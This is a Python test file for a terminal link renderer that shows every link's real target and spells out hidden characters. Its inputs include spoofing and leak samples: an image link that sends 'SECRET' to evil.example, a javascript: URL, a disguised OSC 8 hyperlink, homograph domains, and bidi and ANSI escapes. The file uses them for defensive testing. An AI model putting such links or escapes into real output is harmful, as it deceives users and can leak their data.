"""Links as a terminal shows them: with their real target, and nothing hidden."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dragoman.tools.web.links import display_text, display_url


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("see [docs](https://a.example/x) now", "see docs (https://a.example/x) now"),
        ("[https://a.example](https://a.example/)", "https://a.example/"),
        ("[a.example/x](https://a.example/x)", "https://a.example/x"),
        ("[](https://a.example/)", "https://a.example/"),
        ("[https://bank.example](https://evil.example)", "https://bank.example (https://evil.example)"),
        ("[Foo](https://a.example/wiki/Foo_(bar) 'title')", "Foo (https://a.example/wiki/Foo_(bar))"),
        ("[x](<https://a.example/a b>)", "x (https://a.example/a b)"),
        ("[x](javascript:alert(1))", "x (javascript:alert(1))"),
        ("[x](//evil.example)", "x (//evil.example)"),
        ("a[0](x) and [1](./file.md)", "a[0](x) and [1](./file.md)"),
        ("`[x](https://a.example)`", "`[x](https://a.example)`"),
        ("```\n[x](https://a.example)\n```", "```\n[x](https://a.example)\n```"),
    ],
)
def test_a_link_shows_its_target(text: str, shown: str) -> None:
    assert display_text(text) == shown


def test_ui03_an_image_is_only_a_link_and_osc_8_is_spelled_out() -> None:
    """UI03: rendering fetches nothing; a clickable link whose text differs from its target shows the target."""
    assert display_text("![x](https://evil.example/?d=SECRET)") == "image: x (https://evil.example/?d=SECRET)"
    shown = display_text("\x1b]8;;https://evil.example\x1b\\https://bank.example\x1b]8;;\x1b\\")
    assert "\x1b" not in shown
    assert "https://evil.example" in shown


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://аpple.com/x", "https://xn--pple-43d.com/x"),
        ("https://xn--pple-43d.com/", "https://xn--pple-43d.com/"),
        ("https://bücher.example:8443/ü?q", "https://xn--bcher-kva.example:8443/ü?q"),
        ("https://bank.example@evil.example/", "https://…@evil.example/"),
        ("https://bank.example%2f@evil.example/", "https://…@evil.example/"),
        ("https://[::1]:80/", "https://[::1]:80/"),
        ("https://a\u202eb.example/\u202e", "https://a<U+202E>b.example/<U+202E>"),
        ("mailto:a@b.example", "mailto:a@b.example"),
    ],
)
def test_a_url_says_where_it_leads(url: str, shown: str) -> None:
    assert display_url(url) == shown


def test_bare_addresses_are_shown_in_ascii_too() -> None:
    assert display_text("go to https://аpple.com/login, now") == "go to https://xn--pple-43d.com/login, now"


@pytest.mark.parametrize("text", ["👩\u200d💻", "❤\ufe0f\u200d🔥", "می\u200cخواهم", "क्\u200dष", "日本語", "שלום"])
def test_scripts_and_pictures_are_shown_as_they_are(text: str) -> None:
    assert display_text(text) == text


@pytest.mark.parametrize("hidden", ["\x1b[2J", "\u202e", "\u200b", "\x07", "a\u200db", "😀\ufe0f\ufe0f\ufe0f", "\U000e0041"])
def test_what_hides_is_spelled_out(hidden: str) -> None:
    assert "<U+" in display_text(f"x{hidden}y")


@given(
    st.text()
    | st.lists(st.sampled_from(["[", "]", "(", ")", "!", "`", "```", "https://", "a", "\n", " ", "<", ">", '"', "\x1b", "\u202e"])).map(
        "".join
    )
)
def test_nothing_that_moves_the_cursor_gets_through(text: str) -> None:
    shown = display_text(text)
    assert not {char for char in shown if char not in "\n\t" and (ord(char) < 32 or char in "\x7f\u202a\u202b\u202d\u202e\u2066\u2067")}


@given(st.text(st.sampled_from("abc :/.?[]()"), max_size=40))
def test_no_target_is_lost(text: str) -> None:
    shown = display_text(f"[label](https://evil.example/x) {text}")
    assert "https://evil.example/x" in shown
